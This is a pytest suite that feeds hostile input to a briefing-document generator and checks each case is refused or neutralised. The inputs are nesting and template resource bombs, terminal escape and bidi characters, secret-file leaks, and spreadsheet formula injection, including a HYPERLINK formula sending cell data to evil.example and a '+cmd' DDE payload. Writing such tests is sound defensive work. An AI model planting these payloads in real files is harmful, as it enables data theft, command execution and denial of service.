"""Hostile input, end to end through ``run.py`` (issue 10, point 5): each case ends in one located error
line, exit 1, no traceback — quickly and in bounded memory. No case is timed: each input would hang,
exhaust memory or raise an unhandled exception without its limit.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
from decimal import Decimal

import jinja2
import pytest
from conftest import pdf_text
from hardening import Workspace, assert_refused, run

from briefgen.base.errors import ComposeError
from briefgen.base.model import BriefSpec, FactSet
from briefgen.compose import compose
from briefgen.load.facts import load_facts

# --- unit expressions: a whitelist grammar, never evaluated ------------------------------------------


@pytest.mark.parametrize(("unit", "problem"), [
    ("kW**(9**9**9)", "exponent '(' is not a whole number from -9 to 9 in unit 'kW**(9**9**9)'"),
    ("1/0", "'0' where a unit name belongs in unit '1/0'"),
    ("kW**(2**-2000)", "exponent '(' is not a whole number from -9 to 9"),
    ("kW**1e309", "exponent '1e309' is not a whole number from -9 to 9"),
    ("kW**99", "exponent '99' is not a whole number from -9 to 9"),
    ("GPU" * 1000, "unit 'GPUGPUGPUGPUGPUGPUGP'… is 3000 characters long (at most 80)"),
])
def test_a_hostile_unit_cell_is_one_located_line(ws: Workspace, unit: str, problem: str) -> None:
    line = ws.set_fact("colossus_power", unit=unit)
    error = assert_refused(ws.build(), f"{ws.facts}:{line}: unit: {problem}")
    assert len(error) < 400
    ws.assert_untouched()


def test_a_hostile_unit_in_the_spec_is_one_located_line(ws: Workspace) -> None:
    spec = ws.brief_dir / "brief.yaml"
    spec.write_text(spec.read_text(encoding="utf-8").replace('to: "m**3/day"', 'to: "m**(9**9**9)"'),
                    encoding="utf-8")
    assert_refused(ws.build(), "brief.yaml:19: comparisons[6].to: exponent '(' is not a whole number")


def test_a_flop_rate_prints_as_flops_never_as_hertz(ws: Workspace) -> None:
    ws.set_fact("colossus_power", value="1.102", unit="EFlop/s")
    spec = ws.brief_dir / "brief.yaml"
    spec.write_text(spec.read_text(encoding="utf-8").replace(
        '  - {id: power_per_household, kind: convert, of: colossus_power, per: colossus_households, to: "kW/household"}\n'
        '  - {id: energy_per_year, kind: convert, of: colossus_power, over: "1 year", to: "TWh"}\n', ""),
        encoding="utf-8")
    for template in ws.templates.glob("xai-colossus/*.md"):
        text = template.read_text(encoding="utf-8")
        for name in ("power_per_household", "energy_per_year"):
            text = "\n".join(line for line in text.splitlines() if name not in line) + "\n"
        template.write_text(text, encoding="utf-8")
    result = ws.build()
    assert result.code == 0, result.err
    en, ja = pdf_text(ws.pdf("en").read_bytes()), pdf_text(ws.pdf("ja").read_bytes())
    assert re.search(r"1\.1\d* EFLOP/s", en) and re.search(r"1\.1\d*エクサフロップス", ja)
    assert "Hz" not in en + ja


# --- nesting: a depth limit before any recursive parser runs -----------------------------------------

DEEP = 100_000


@pytest.mark.parametrize(("name", "text", "line"), [
    ("facts.json", "[" * DEEP + "]" * DEEP, 1),
    ("facts.json", '{"a":' * DEEP + "1" + "}" * DEEP, 1),
    ("facts.json", '[{"quote": "[[[[", "x": ' + "[" * DEEP + "]" * DEEP + "}]", 1),
    ("facts.yaml", "[" * DEEP + "]" * DEEP, 1),
    ("facts.yaml", "- " * DEEP + "x", 1),
    ("facts.yaml", "rows:\n" + "".join(" " * i + "-\n" for i in range(40)), 33),
])
def test_a_facts_file_nested_100000_deep_is_one_located_line(ws: Workspace, name: str, text: str,
                                                            line: int) -> None:
    path = ws.brief_dir / name
    path.write_text(text, encoding="utf-8")
    spec = ws.brief_dir / "brief.yaml"
    spec.write_text(spec.read_text(encoding="utf-8").replace("facts: facts.csv", f"facts: {name}"),
                    encoding="utf-8")
    assert_refused(ws.build(), f"{path}:{line}: nested more than 32 levels deep")
    ws.assert_untouched()


@pytest.mark.parametrize("text", ["[" * DEEP + "]" * DEEP, "id: x\ncomparisons:\n" + "  - " * DEEP + "x"])
def test_a_spec_nested_100000_deep_is_one_located_line(ws: Workspace, text: str) -> None:
    spec = ws.brief_dir / "brief.yaml"
    spec.write_text(text, encoding="utf-8")
    assert_refused(run("--data", str(ws.data), "check", str(spec)), f"{spec}:", "nested more than 32 levels deep")
    assert_refused(ws.build(), f"{spec}:", "nested more than 32 levels deep")


def test_a_settings_file_nested_100000_deep_is_one_line(ws: Workspace) -> None:
    config = ws.root / "smtp.toml"
    config.write_text("[smtp]\nhost = " + "[" * DEEP + "]" * DEEP + "\n", encoding="utf-8")
    result = run(*ws.options(), "send", "xai-colossus", "--dry-run", "--config", str(config))
    assert_refused(result, f"{config}: arrays or tables nested too deep")


# --- templates: a sandbox with bounded range, *, **, widths and output, and a wall-clock budget ------


@pytest.mark.parametrize(("text", "problem"), [
    ("{{ range(10**9) }}", "range(1000000000) has 1,000,000,000 items (at most 10,000 in a template)"),
    ("{% for i in range(10**9) %}x{% endfor %}", "range(1000000000) has 1,000,000,000 items"),
    ("{{ 'x'*10**9 }}", "repeating 1 items 1,000,000,000 times makes more than 100,000"),
    ("{{ 10**9*[0] }}", "repeating 1 items 1,000,000,000 times"),
    ("{{ 10**10**10**10 }}", "a power of about 2**3,322 is larger than 2**1000"),
    ("{{ 'x'|center(10**9) }}", "the width 1,000,000,000 is above 100,000"),
    ("{{ '%0999999999d' % 1 }}", "the format '%0999999999' has a width of * or above 100,000"),
    ("{{ '%0*d'|format(10**9, 1) }}", "the format '%0*' has a width of * or above 100,000"),
    ("{{ '{:>999999999}'.format(1) }}", "the format '{:>999999999' has a width"),
    ("{% for i in range(10000) %}{{ 'x'*100000 }}{% endfor %}", "the template printed more than 5,000,000 characters"),
    ("{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "maximum recursion depth exceeded"),
    ("{{ 1/0 }}", "division by zero"),
    ("{{ 2.0**100000 }}", "Numerical result out of range"),
])
def test_a_template_beyond_the_sandbox_limits_is_one_line_naming_template_and_line(
        ws: Workspace, text: str, problem: str) -> None:
    path = ws.templates / "xai-colossus" / "en.md"
    lines = path.read_text(encoding="utf-8").splitlines()
    lines[2:2] = [text, ""]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    error = assert_refused(ws.build("--lang", "en", "-q"), f"{path}:3: {problem}", "(expected a template within the sandbox's limits")
    assert len(error) < 500
    ws.assert_untouched()


def test_small_widths_repeats_and_powers_still_work() -> None:
    env = compose.environment(jinja2.DictLoader({"t/en.md": (
        "{{ 'ab'|center(6) }}|{{ '%05d' % 3 }}|{{ '{:>4}'.format(7) }}|{{ 'xy'*3 }}|{{ 2**10 }}|"
        "{% for i in range(3) %}{{ i }}{% endfor %}\n")}))
    brief = compose.compose(SPEC, FactSet({}, {}), (), "en", dt.date(2024, 7, 29), env)
    assert "ab  |00003|   7|xyxyxy|1024|012" in str(brief.blocks)


class SteppingClock:
    """A clock that moves one second each time it is read (no test waits for real time)."""

    def __init__(self) -> None:
        self.now = 0.0

    def __call__(self) -> float:
        self.now += 1.0
        return self.now


def test_a_template_running_past_its_budget_stops_at_its_line() -> None:
    clock = SteppingClock()
    env = compose.environment(jinja2.DictLoader({"t/en.md": (
        "# Title\n\n{% for i in range(10000) %}{% for j in range(10000) %}\n{% endfor %}{% endfor %}\n")}),
        clock=clock)
    with pytest.raises(ComposeError, match=r"^t/en\.md:3: the template ran longer than 10 seconds"):
        compose.compose(SPEC, FactSet({}, {}), (), "en", dt.date(2024, 7, 29), env)
    assert clock.now < 20


SPEC = BriefSpec(id="t", title={"en": "Title"}, languages=("en",), template="t", facts_path="facts.csv",
                 sources_path="sources.csv", comparisons=(), key_numbers=(), charts=(), origin="brief.yaml")


# --- a secret file read by mistake: at most 80 characters of it in any message -----------------------

SECRET = "API_TOKEN=" + "".join(f"{i:03d}secret" for i in range(60))  # 550 characters on one line


def assert_quotes_little(error: str, text: str = SECRET) -> None:
    """No 81 characters in a row of ``text`` appear in ``error``."""
    assert not any(text[i:i + 81] in error for i in range(len(text) - 80)), error


@pytest.fixture
def secret(ws: Workspace) -> str:
    path = ws.root / "secret.env"
    path.write_text(f"{SECRET}\nDB_PASSWORD={SECRET[::-1]}\n", encoding="utf-8")
    return str(path)


def test_a_secret_file_given_as_the_spec_is_quoted_to_80_characters(ws: Workspace, secret: str) -> None:
    for command in ("build", "check"):
        error = assert_refused(run(*ws.options(), command, secret), f"{secret}:1: got str 'API_TOKEN=000secret")
        assert_quotes_little(error)


@pytest.mark.parametrize("table", ["facts.csv", "sources.csv"])
def test_a_secret_file_in_place_of_a_table_is_one_line_quoting_80_characters(ws: Workspace, secret: str,
                                                                            table: str) -> None:
    path = ws.brief_dir / table
    path.write_text(open(secret, encoding="utf-8").read(), encoding="utf-8")
    error = assert_refused(run(*ws.options(), "check", "xai-colossus"),
                           f"{path}:1: no column of this table in the first row 'API_TOKEN=000secret")
    assert_quotes_little(error)
    assert error.count(str(path)) == 1


def test_a_secret_file_given_as_readers_or_settings_is_quoted_to_80_characters(ws: Workspace, secret: str) -> None:
    readers = ws.root / "secret.csv"
    readers.write_text(open(secret, encoding="utf-8").read(), encoding="utf-8")
    error = assert_refused(run(*ws.options(), "send", "xai-colossus", "--dry-run", "--readers", str(readers)),
                           f"{readers}:1: no column of this table in the first row")
    assert_quotes_little(error)
    error = assert_refused(run(*ws.options(), "send", "xai-colossus", "--dry-run", "--config", secret),
                           f"{secret}: not valid TOML")
    assert_quotes_little(error)


def test_long_cells_are_quoted_to_80_characters_and_at_most_20_problems_are_listed(ws: Workspace) -> None:
    rows = ws.rows()
    rows[0]["id"] = SECRET
    rows += [{**rows[1], "id": f"bad_{i}", "value": f"{i}万"} for i in range(500)]
    ws.write_rows(rows)
    error = assert_refused(ws.build(), f"{ws.facts}:2: id: bad id 'API_TOKEN=000secret", "; and 481 more problems")
    assert_quotes_little(error)
    assert error.count(f"{ws.facts}:") == 20


# --- terminal output: no control, ANSI, C1 or bidi character reaches the terminal --------------------

UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\U000e0000-\U000e0fff]")
NASTY = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202eevil\u2066\U000e0041"  # (a CR would split the CSV row)


def test_check_prints_fact_and_claim_text_with_control_characters_escaped(ws: Workspace) -> None:
    for fact in ("xai_valuation", "xai_valuation_headline"):
        ws.set_fact(fact, entity=f"xAI{NASTY}")
    spec = ws.brief_dir / "brief.yaml"
    spec.write_text(spec.read_text(encoding="utf-8").replace(
        'quote: "数量は4倍に増加"', 'quote: "数量は4倍に増加\\e[31m\\x9b\\u202e\\rX"'), encoding="utf-8")
    result = run(*ws.options(), "check", "xai-colossus")
    assert result.code == 0, result.err
    assert not UNSAFE.search(result.out + result.err)
    assert "xAI\\u001b[2J\\u001b]0;owned\\u0007\\u009b31m\\u202eevil\\u2066\\udb40\\udc41 / valuation" in result.out
    assert "数量は4倍に増加\\u001b[31m\\u009b\\u202e\\u000dX」" in result.out


def test_an_error_quoting_a_file_name_or_cell_escapes_control_characters(ws: Workspace) -> None:
    ws.set_fact("xai_h100_count", value=f"1{NASTY}")
    error = assert_refused(ws.build(), "value: not a number: '1\\x1b[2J")
    assert not UNSAFE.search(error)
    folder = ws.root / f"odd{NASTY}\nname"
    error = assert_refused(run(*ws.options(), "check", str(folder / "brief.yaml")))
    assert not UNSAFE.search(error) and "odd\\u001b[2J" in error and "\\nname" in error


def test_extract_prints_article_text_with_control_characters_escaped(ws: Workspace) -> None:
    article = ws.root / "article.txt"
    article.write_text(f"xAI raised \u202e$6 billion{NASTY} in May.\n", encoding="utf-8")
    result = run(*ws.options(), "extract", str(article), "--against", "xai-colossus")
    assert result.code == 0, result.err
    assert not UNSAFE.search(result.out)
    assert "xAI raised \\u202e$6 billion\\u001b[2J" in result.out


# --- CSV written for spreadsheets: no cell starts a formula, and it loads back exactly ----------------

FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click") raised 6 billion dollars in May 2024.\n'
            "@SUM(1+1) said revenue fell -3.7% to 120 million dollars.\n"
            "+cmd|' /C calc'!A0 shipped 100,000 GPUs.\n"
            "-2+3 cars were sold, down 5%.\n"
            "'=already quoted' said 7 engineers.\n")


def test_extract_out_neutralises_formula_cells_and_the_table_loads_back_exactly(ws: Workspace) -> None:
    article, out = ws.root / "article.txt", ws.brief_dir / "proposed.csv"
    article.write_text(FORMULAS, encoding="utf-8")
    result = run(*ws.options(), "extract", str(article), "--out", str(out), "--source", "seed_article")
    assert result.code == 0, result.err
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
                or (c[:1] == "-" and not re.fullmatch(r"-[0-9.]+", c))]
    assert "-3.7" in [row["value"] for row in rows]  # a number stays a number for the spreadsheet
    assert "''=already quoted' said 7 engineers." in [row["quote"] for row in rows]

    facts = load_facts(out, ws.brief_dir / "sources.csv")
    sentences = set(FORMULAS.splitlines())
    assert {fact.quote for fact in facts.facts.values()} == sentences
    assert Decimal("-3.7") in [f.quantity.low for f in facts.facts.values() if f.quantity]
    assert {f.entity for f in facts.facts.values()} >= {"HYPERLINK", "SUM"}

    spec = ws.brief_dir / "brief.yaml"
    spec.write_text("id: xai-colossus\ntitle: {en: Proposed}\nlanguages: [en]\ntemplate: xai-colossus\n"
                    "facts: proposed.csv\nsources: sources.csv\ndraft: true\n",  # its '?' need draft: true
                    encoding="utf-8")
    against = run(*ws.options(), "extract", str(article), "--against", "xai-colossus")
    assert against.code == 0, against.err
    assert "Facts whose quote is no longer in the article: 0" in against.out
